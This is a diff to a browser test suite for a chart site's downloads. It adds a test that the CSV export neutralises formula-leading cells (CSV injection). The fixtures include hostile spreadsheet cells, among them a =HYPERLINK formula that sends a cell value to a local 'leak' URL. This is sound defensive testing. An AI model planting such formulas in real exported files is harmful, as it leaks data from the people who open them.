@@ -4,6 +4,7 @@
  * site's origin (JS on and off), downloads match what is shown, and the citation names what it must.
  */
 import { readFileSync } from "node:fs";
+import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import type { Browser, Page } from "playwright-core";
 import { baseUrl, launch, open, waitForRedraw } from "./browser";
@@ -56,6 +57,8 @@ describe("copy link", () => {
     await changedView(page);
     const before = await shownTable(page);
     await page.click(`${FIG} [data-action="copy-link"]`);
+    // The actions module loads on first use: the link is written when its box opens, not at the click.
+    await page.locator(`${FIG} [data-link-fallback]`).waitFor({ state: "visible" });
     const link = await page.inputValue(`${FIG} [data-link-field]`);
     expect(link).toBe(`${baseUrl()}/en/?from=2020#chart-victims`);
     expect(await page.locator(`${FIG} [data-link-fallback]`).isVisible()).toBe(true);
@@ -112,6 +115,48 @@ describe("downloads", () => {
     expect(series[0]).toMatch(/^series_id,/);
     expect(series.length - 1).toBe(all.length);
     expect(series.slice(1).every((l) => l.startsWith("dsc_victims,"))).toBe(true);
+    expect(t.errors).toEqual([]);
+    await t.context.close();
+  });
+
+  it("CSV download neutralises formula-leading text and keeps negative numbers numbers (OWASP CSV injection)", async () => {
+    const t = await open(browser, "/en/");
+    const { page } = t;
+    await page.locator(`${FIG} [data-action="csv"]`).waitFor({ state: "visible" });
+    // The download is made from the table embedded in the page; put hostile cells in it, as text that slipped
+    // past the data validation would arrive.
+    await page.evaluate((sel) => {
+      const el = document.querySelector(`${sel} script[data-actions-config]`)!;
+      const c = JSON.parse(el.textContent!) as { prerendered: { columns: string[]; raw: unknown[][] } };
+      c.prerendered.columns = ["=label", "value"];
+      c.prerendered.raw = [
+        ['=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"Click for details")', -5],
+        ["+1+1", -0.25],
+        ["-1+1", 0],
+        ["@SUM(1+1)", 12],
+        ["\t=1+1", null],
+        ["\r=1+1", 1],
+        ["-5", 2],
+        ["Female", 3],
+      ];
+      el.textContent = JSON.stringify(c);
+    }, FIG);
+    const text = (await downloadText(page, "csv")).toString("utf8").slice(1);
+    const rows = Papa.parse<string[]>(text, { delimiter: ",", skipEmptyLines: true }).data;
+    expect(rows).toEqual([
+      ["'=label", "value"],
+      [`'=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"Click for details")`, "-5"],
+      ["'+1+1", "-0.25"],
+      ["'-1+1", "0"],
+      ["'@SUM(1+1)", "12"],
+      ["'\t=1+1", ""],
+      ["'\r=1+1", "1"],
+      ["-5", "2"],
+      ["Female", "3"],
+    ]);
+    // Negative numbers are written bare (a spreadsheet reads them as numbers), never quoted or prefixed.
+    expect(text).toContain(`\r\n"'-1+1",0\r\n`);
+    expect(text).toMatch(/,-5\r\n/);
     expect(t.errors).toEqual([]);
     await t.context.close();
   });
